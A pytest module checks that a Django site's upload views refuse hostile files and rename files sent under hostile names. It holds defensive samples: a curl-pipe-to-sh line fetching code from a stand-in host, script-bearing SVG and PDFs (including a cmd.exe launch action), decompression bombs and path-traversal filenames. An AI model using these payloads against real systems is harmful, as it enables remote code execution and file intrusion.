"""Every upload of the project fed hostile files through its real view (multipart, as a role that
may upload there): over the size cap, a program renamed as the expected kind, a decompression
bomb, an SVG with a script, a PDF with JavaScript, text that is not UTF-8.

A refused file leaves a clear message on the page, no row and no file under MEDIA_ROOT. A good
file sent under a hostile name (`../../etc/passwd`, 300 characters, right-to-left override, a
NUL byte) is stored under a name the server made up; attachments are downloaded with
`Content-Disposition: attachment` and `nosniff`.

Decisions: the client's file name is never used for storage (Django's parser keeps only its last
path component, and the services generate a uuid name), so a hostile name with a good file is
accepted, not refused. A PDF is refused for /JavaScript, /JS or /Launch in its bytes (names
spelled with #xx escapes included); objects inside compressed object streams are not inspected.
Images are re-encoded, which also drops anything hidden after the picture data.
"""

from __future__ import annotations

import io
import re
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from html import escape
from pathlib import Path

import pytest
from django.conf import settings
from django.contrib.auth.models import Group
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from PIL import Image

from cms.models import DocumentLibraryPage, PolicyDocumentFootnote, PolicyDocumentPage
from events.models import Session
from roadmaps.models import Clause, RoadmapVersion
from stocktaking.models import Entry, EntryAttachment
from tests.cms.builders import document_library
from tests.conftest import FIGURES
from tests.events.factories import EventFactory
from tests.factories import MembershipFactory, UserFactory
from tests.hostile import initial_of
from tests.stocktaking.factories import EntryFactory
from wsis.enums import Role

pytestmark = pytest.mark.django_db

MB = 1024 * 1024
COUNTED = {"uploads": 0, "refused": 0, "renamed": 0}


def png(width: int = 8, height: int = 8) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (width, height), "teal").save(buffer, format="PNG")
    return buffer.getvalue()


def png_declaring(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims `width` × `height` pixels (a decompression bomb)."""
    data = bytearray(png())
    data[16:20] = width.to_bytes(4, "big")
    data[20:24] = height.to_bytes(4, "big")
    data[29:33] = zlib.crc32(bytes(data[12:29])).to_bytes(4, "big")
    return bytes(data)


PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\xff" * 64
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"PE\x00\x00"
SHELL = b"#!/bin/sh\ncurl -s https://example.invalid/x | sh\n"
SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8">'
    b"<script>alert(1)</script><rect width='8' height='8'/></svg>"
)
PDF_WITH_SCRIPT = (
    b"%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction 2 0 R >> endobj\n"
    b"2 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj\n%%EOF\n"
)
PDF_WITH_ESCAPED_SCRIPT = (
    b"%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction 2 0 R >> endobj\n"
    b"2 0 obj << /S /J#61vaScript /J#53 (app.alert(1)) >> endobj\n%%EOF\n"
)
PDF_LAUNCH = b"%PDF-1.4\n1 0 obj << /OpenAction << /S /Launch /F (cmd.exe) >> >> endobj\n%%EOF\n"
SESSIONS_HEADER = (
    b"number,title,type,date,start,end,organisers,participation,room,action_lines,sdgs,"
    b"description,speakers,links\n"
)
SESSIONS_CSV = (
    SESSIONS_HEADER + b"464,Small States,roundtable,2026-05-28,15:45,16:45,,hybrid,,C2,9,,,\n"
)
ROADMAP = (settings.BASE_DIR / "tests/roadmaps/samples/minimal.txt").read_bytes()
POLICY = (settings.BASE_DIR / "tests/cms/samples/small_policy.txt").read_bytes()


def _library_id() -> int:
    library = DocumentLibraryPage.objects.first()
    return (library or document_library()).pk


def _zip_bomb_like() -> bytes:
    """A deflate stream of 2 MB of zeros in a zip's clothes: a few kilobytes that would expand
    a thousandfold if anything unpacked it."""
    return b"PK\x03\x04" + zlib.compress(bytes(2 * MB), 9)


NOT_AN_IMAGE = "The file is not a PNG, JPEG, GIF or WebP image."
TOO_MANY_PIXELS = "The image has more than 40 million pixels."
NOT_UTF8_CSV = "the file is not UTF-8 text"
HOSTILE_NAMES = (
    "../../etc/passwd",
    "a" * 300,
    "évil\u202egnp",
    "nul\x00byte",
    "..\\..\\windows\\system32\\x",
)


@dataclass
class Upload:
    """One upload field: where it is, who may use it, the rest of a valid form, what it writes."""

    name: str
    role: str
    path: Callable[[dict], str]
    field: str
    extension: str
    good: bytes
    hostile: tuple[tuple[str, bytes, str], ...]  # (what, bytes, the message the page shows)
    base: Callable[[dict, Client, str], dict] = lambda people, client, path: {}
    written: Callable[[], tuple] = tuple
    stored_name: Callable[[dict], str | None] = lambda people: None
    accepted_status: int = 302


def _people() -> dict:
    owner = MembershipFactory(is_contact=True).user
    secretariat = UserFactory(is_staff=True, verified=True)
    secretariat.groups.add(Group.objects.get(name=Role.SECRETARIAT))
    return {"owner": owner, "secretariat": secretariat, "org": owner.memberships.get().organisation}


def _entry_path(people, suffix):
    entry = EntryFactory(organisation=people["org"])
    people["entry"] = entry
    return f"/stocktaking/mine/{entry.pk}/{suffix}"


def _image_name(people):
    people["entry"].refresh_from_db()
    return people["entry"].image.name


def _attachment_name(people):
    attachment = EntryAttachment.objects.filter(entry=people["entry"]).first()
    return attachment.file.name if attachment else None


def _over(cap: int, head: bytes) -> bytes:
    return head + b"0" * (cap + 1 - len(head))


UPLOADS = (
    Upload(
        "stocktaking entry image",
        "owner",
        lambda people: _entry_path(people, "edit/"),
        "image_upload",
        "png",
        png(),
        (
            ("over the 5 MB cap", _over(5 * MB, png()), "at most 5 MB are allowed."),
            ("an ELF program named .png", ELF, NOT_AN_IMAGE),
            ("a Windows program named .png", PE, NOT_AN_IMAGE),
            ("a shell script named .png", SHELL, NOT_AN_IMAGE),
            ("a PNG declaring 50000×50000 pixels", png_declaring(50_000, 50_000), TOO_MANY_PIXELS),
            ("a PNG declaring 10000×10000 pixels", png_declaring(10_000, 10_000), TOO_MANY_PIXELS),
            ("a PNG declaring 7000×7000 pixels", png_declaring(7_000, 7_000), TOO_MANY_PIXELS),
            ("an SVG with a script", SVG, NOT_AN_IMAGE),
            ("a truncated PNG", png(64, 64)[:60], NOT_AN_IMAGE),
        ),
        base=initial_of(),
        written=lambda: (
            Entry.objects.exclude(image="").count(),
            EntryAttachment.objects.count(),
        ),
        stored_name=_image_name,
    ),
    Upload(
        "stocktaking PDF attachment",
        "owner",
        lambda people: _entry_path(people, "attachments/"),
        "file",
        "pdf",
        PDF,
        (
            ("over the 10 MB cap", _over(10 * MB, PDF), "at most 10 MB are allowed."),
            ("an ELF program named .pdf", ELF, "The file is not a PDF (its content is "),
            ("a Windows program named .pdf", PE, "The file is not a PDF (its content is "),
            ("a shell script named .pdf", SHELL, "The file is not a PDF (its content is unknown)."),
            ("a PNG named .pdf", png(), "The file is not a PDF (its content is image/png)."),
            ("a PDF with JavaScript", PDF_WITH_SCRIPT, "The PDF contains scripts"),
            (
                "a PDF with #-escaped JavaScript",
                PDF_WITH_ESCAPED_SCRIPT,
                "The PDF contains scripts",
            ),
            ("a PDF with a launch action", PDF_LAUNCH, "The PDF contains scripts"),
        ),
        base=lambda people, client, path: {"title": "Annual report"},
        written=lambda: (EntryAttachment.objects.count(),),
        stored_name=_attachment_name,
    ),
    Upload(
        "admin CSV import of sessions",
        "secretariat",
        lambda people: "/admin/events/session/import-csv/",
        "file",
        "csv",
        SESSIONS_CSV,
        (
            ("over the 5 MB cap", _over(5 * MB, SESSIONS_CSV), "The file is larger than 5 MB."),
            ("an ELF program named .csv", ELF, NOT_UTF8_CSV),
            ("a Windows program named .csv", PE, NOT_UTF8_CSV),
            ("a shell script named .csv", SHELL, "line 1: the header lacks the columns "),
            ("a PNG named .csv", png(), NOT_UTF8_CSV),
            (
                "Latin-1 text",
                SESSIONS_CSV.replace(b"Small", "Smäll".encode("latin-1")),
                NOT_UTF8_CSV,
            ),
            (
                "text with NUL bytes",
                SESSIONS_CSV.replace(b"Small", b"Sm\x00all"),
                "line 2: the file contains a NUL character",
            ),
        ),
        base=lambda people, client, path: {"event": EventFactory().pk},
        written=lambda: (Session.objects.count(),),
    ),
    Upload(
        "admin roadmap import",
        "secretariat",
        lambda people: "/admin/roadmaps/roadmapversion/import/",
        "document",
        "txt",
        ROADMAP,
        (
            ("over the 5 MB cap", _over(5 * MB, ROADMAP), "The file is larger than 5 MB."),
            (
                "an ELF program named .txt",
                ELF,
                "Line 1: the file is not UTF-8 text. Save it as UTF-8",
            ),
            (
                "a Windows program named .txt",
                PE,
                "Line 1: the file is not UTF-8 text. Save it as UTF-8",
            ),
            (
                "a shell script named .txt",
                SHELL,
                "Line 3: reached the end of the text without any Action Line section",
            ),
            ("a PNG named .txt", png(), "Line 1: the file is not UTF-8 text. Save it as UTF-8"),
        ),
        base=lambda people, client, path: {"dry_run": ""},
        written=lambda: (RoadmapVersion.objects.count(), Clause.objects.count()),
        accepted_status=200,
    ),
    Upload(
        "CMS policy document import",
        "secretariat",
        lambda people: "/cms-admin/import-document/",
        "file",
        "txt",
        POLICY,
        (
            ("over the 2 MB cap", _over(2 * MB, POLICY), "The file is larger than 2 MB."),
            ("an ELF program named .txt", ELF, "Line 1: the file is not UTF-8 text."),
            ("a Windows program named .txt", PE, "Line 1: the file is not UTF-8 text."),
            ("a PNG named .txt", png(), "Line 1: the file is not UTF-8 text."),
            (
                "a zip bomb-like file named .txt",
                _zip_bomb_like(),
                "Line 1: the file is not UTF-8 text.",
            ),
            (
                "Latin-1 text",
                POLICY.replace(b"opening", "op\u00e9ning".encode("latin-1"), 1),
                "Line 4: the file is not UTF-8 text",
            ),
            (
                "text with NUL bytes",
                POLICY.replace(b"\n", b"\n\x00", 1),
                "Line 2: a control character",
            ),
            ("an empty file", b"", "The submitted file is empty."),
        ),
        base=lambda people, client, path: {"library": _library_id(), "dry_run": ""},
        written=lambda: (
            PolicyDocumentPage.objects.count(),
            PolicyDocumentFootnote.objects.count(),
        ),
        accepted_status=200,
    ),
)


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path) -> Path:
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


def _files_under(root: Path) -> list[str]:
    return sorted(str(path.relative_to(root)) for path in root.rglob("*") if path.is_file())


def _post(upload: Upload, people, client, path, content: bytes, filename: str):
    data = upload.base(people, client, path)
    data[upload.field] = SimpleUploadedFile(filename, content)
    COUNTED["uploads"] += 1
    return client.post(path, data)


@pytest.mark.parametrize("upload", UPLOADS, ids=lambda upload: upload.name)
def test_hostile_files_are_refused_with_a_message_and_nothing_stored(upload, media_root):
    people = _people()
    client = Client()
    client.force_login(people[upload.role])
    path = upload.path(people)
    before = upload.written()
    problems = []
    for what, content, message in upload.hostile:
        response = _post(upload, people, client, path, content, f"upload.{upload.extension}")
        COUNTED["refused"] += 1
        html = response.content.decode()
        if response.status_code not in (200, 400) or escape(message) not in html:
            problems.append(f"{what}: {response.status_code}, message not shown: {message}")
        if upload.written() != before or _files_under(media_root):
            problems.append(f"{what}: stored {upload.written()} {_files_under(media_root)}")
    assert problems == []
    FIGURES["hostile uploads"] = _figure()


@pytest.mark.parametrize("upload", UPLOADS, ids=lambda upload: upload.name)
def test_a_good_file_under_a_hostile_name_is_stored_under_a_server_name(upload, media_root):
    people = _people()
    client = Client()
    client.force_login(people[upload.role])
    stored = []
    for hostile_name in HOSTILE_NAMES:
        path = upload.path(people)
        response = _post(
            upload, people, client, path, upload.good, f"{hostile_name}.{upload.extension}"
        )
        COUNTED["renamed"] += 1
        assert (hostile_name, response.status_code) == (hostile_name, upload.accepted_status)
        stored.append(upload.stored_name(people))
    files = _files_under(media_root)
    if upload.stored_name(people) is None:
        # An import reads the file and keeps rows, never the file.
        assert files == []
    else:
        pattern = re.compile(r"stocktaking/(images|attachments)/[0-9a-f]{32}\.(png|jpg|pdf)")
        assert [bool(pattern.fullmatch(name)) for name in stored] == [True] * len(HOSTILE_NAMES)
        assert sorted(stored) == files
    FIGURES["hostile uploads"] = _figure()


def test_attachment_download_is_an_attachment_with_nosniff(media_root):
    people = _people()
    client = Client()
    client.force_login(people["owner"])
    path = _entry_path(people, "attachments/")
    client.post(path, {"title": "Report", "file": SimpleUploadedFile("../../x.html", PDF)})
    attachment = EntryAttachment.objects.get(entry=people["entry"])
    response = client.get(f"/stocktaking/attachments/{attachment.pk}/")
    assert (
        response.status_code,
        response["Content-Type"],
        response["Content-Disposition"],
        response["X-Content-Type-Options"],
        response.content,
    ) == (
        200,
        "application/pdf",
        f'attachment; filename="{people["entry"].slug}-{attachment.pk}.pdf"',
        "nosniff",
        PDF,
    )


def _figure() -> str:
    return (
        f"{len(UPLOADS)} upload fields × {sum(len(u.hostile) for u in UPLOADS)} hostile files "
        f"({COUNTED['refused']} refused with a message, nothing stored), "
        f"{COUNTED['renamed']} good files under hostile names stored under server names"
    )
